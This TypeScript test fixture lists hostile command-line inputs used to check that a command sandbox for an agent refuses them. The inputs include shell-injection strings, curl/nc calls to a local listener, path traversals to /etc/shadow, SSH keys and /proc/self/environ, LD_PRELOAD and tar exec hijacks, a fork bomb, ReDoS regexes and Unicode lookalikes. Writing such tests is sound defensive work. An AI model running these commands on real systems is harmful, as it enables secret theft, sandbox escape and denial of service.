import { optionAbuses } from './option-abuses.fixture.ts'

/**
 * Ways to make a system command do more than it may. Each is an argv; the workspace that they meet is hostile itself (`hostileWorkspace` in
 * the test). `secret` is a file outside of it, `port` a listener on this machine.
 */
export function abuses({ secret, port }: { secret: string; port: number }): string[][] {
  const url = `http://127.0.0.1:${port}/`
  return [
    ...shellTricks(secret, url),
    ...otherPrograms(secret, url, port),
    ...pathEscapes(secret).flatMap((path) => [
      ['cat', path],
      ['head', '-n', '9', path],
      ['grep', '-r', 'canary', path],
    ]),
    ...unseen,
    ...optionAbuses(secret, url, port),
    ['grep', '-E', '(((a+)+)+)+$', 'long.txt'],
    ['grep', '(.*)\\1(.*)\\2(.*)\\3x', 'long.txt'],
    ['jq', '-n', '[recurse(1; .+1)] | length'],
    ['jq', '-n', 'reduce range(1e8) as $i ([]; . + [$i])'],
    ['jq', 'import "evil" as e; e::x', 'data.json'],
    ['jq', 'include "../../secret"; .', 'data.json'],
    ['jq', '-n', '$ENV | tojson'],
    ['jq', '-n', '"/etc/passwd" | input_filename'],
    ['jq', '-n', '@sh "\\($ENV)"'],
    ['jq', '-n', 'get_search_list'],
    ['cat', ...Array.from({ length: 100 }, () => 'data.txt')],
    ['cat', 'a'.repeat(9000)],
    ['cat', `${'a/'.repeat(3000)}x`],
    ['grep', 'a'.repeat(4000), 'data.txt'],
    ['', ''],
    [' '],
    ['constructor'],
    ['__proto__'],
    ['toString', 'x'],
    ['ls', '--__proto__'],
    ['ls', '--constructor=x'],
    ['grep', '-A', '99999', 'x', 'data.txt'],
    ['head', '-n'],
    ['grep'],
    ['find'],
  ]
}

/** One a line; a space parts what belongs to one line where that is said. */
const lines = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim())
const words = (text: string) => text.trim().split(/\s+/)

const shellTricks = (secret: string, url: string): string[][] =>
  lines(`
    ; cat ${secret}
    ;cat ${secret}
    | cat ${secret}
    || cat ${secret}
    && cat ${secret}
    & cat ${secret}
    $(cat ${secret})
    \`cat ${secret}\`
    \${IFS}${secret}
    <(cat ${secret})
    >(tee ${secret})
    > ${secret}
    >> ${secret}
    2> ${secret}
    < ${secret}
    <<< ${secret}
    {cat,${secret}}
    $((1+1))
    $HOME
    \${HOME}
    $JARVIS_CANARY
    ~root
    ~
    *
    ?
    [a-z]*
    !!
    #
    %0acat
    \\x0acat
    '; id; '
    "; id; "
    $(curl ${url})
  `).flatMap((tail) => [['ls', tail], ['cat', `data.txt${tail}`], ['grep', tail, 'data.txt'], [`ls ${tail}`], [`ls${tail}`]])

const otherPrograms = (secret: string, url: string, port: number): string[][] => [
  ...[...words('sh bash dash zsh /bin/sh ./evil.sh ../bin/sh /usr/bin/ls busybox LS Cat ls/ ./ls'), 'l\\s', "l''s", 'ls ', ' ls'].map((program) => [
    program,
    '-c',
    `cat ${secret}`,
  ]),
  ...words('curl wget nc ncat socat telnet ssh scp rsync ftp dig nslookup host ping openssl').map((program) => [program, url, String(port)]),
  ...words(`
    python3 perl ruby node php lua awk gawk sed ed vim less more man xargs parallel watch timeout nohup nice setsid env sudo su doas chroot unshare
    nsenter bwrap prlimit strace gdb ld.so make gcc tar zip unzip gzip dd ln chmod chown touch truncate shred mount umount kill reboot systemctl
    journalctl docker crontab at eval exec source . echo printf yes split install
  `).map((program) => [program, secret]),
  ['env', 'LD_PRELOAD=./evil.so', 'ls'],
  ['LD_PRELOAD=./evil.so', 'ls'],
  ['GIT_PAGER=./evil.sh', 'git', 'log'],
  ['tar', 'cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=./evil.sh', '.'],
  ['bash', '-c', ':(){ :|:& };:'],
  ['awk', 'BEGIN { system("id") }'],
  ['sed', '1e id', 'data.txt'],
  ['xargs', '-I{}', 'sh', '-c', '{}'],
]

const pathEscapes = (secret: string): string[] =>
  words(`
    ${secret} //${secret} /workspace/../${secret} /workspace/../../..${secret} ./../..${secret} ../../../../../..${secret} a/../../..${secret}
    .. ../ / // /.. /etc/passwd /etc/shadow /proc/self/environ /proc/1/environ /proc/1/root/etc/passwd /proc/self/cwd/../etc/passwd /proc/self/fd/0
    /proc/kcore /sys/class /dev/mem /dev/vda /root/.ssh/id_rsa /home /var/log/syslog /run/secrets /workspacex/../etc/passwd
    /workspace/../workspace/../etc/passwd outside ./outside root/etc/passwd up/secret loop environ file:///etc/passwd ..\\..\\etc\\passwd
    %2e%2e/etc/passwd ..%2f..%2fetc ．．/etc/passwd ‥/secret ~/secret $HOME/secret - -- -rf --help --version
  `)

const hidden = String.raw`"a\u0000b" "../\u0000" "data.txt\n/etc/passwd" "data.txt\r" "a\tb" "\u001b[2J" "a\u202egpj.txt" "a\u200bb" "\u2028" "\u2029" "\ufeffdata.txt" "\ud800" "\u0085" "\u00ad" "\u2066x\u2069" "\udb40\udc01"`
const lookalikes = words('−l –la —help ﹣l －l ⅼs ｌｓ сat ɡrep')

/** Characters that a person would not see on the card, and those that look like others. */
const unseen: string[][] = [
  ...words(hidden)
    .map((json) => JSON.parse(json) as string)
    .flatMap((text) => [['cat', text], ['grep', text, 'data.txt'], [text], [`ls${text}`]]),
  ...lookalikes.flatMap((lookalike) => [
    [lookalike, 'data.txt'],
    ['ls', lookalike],
  ]),
]
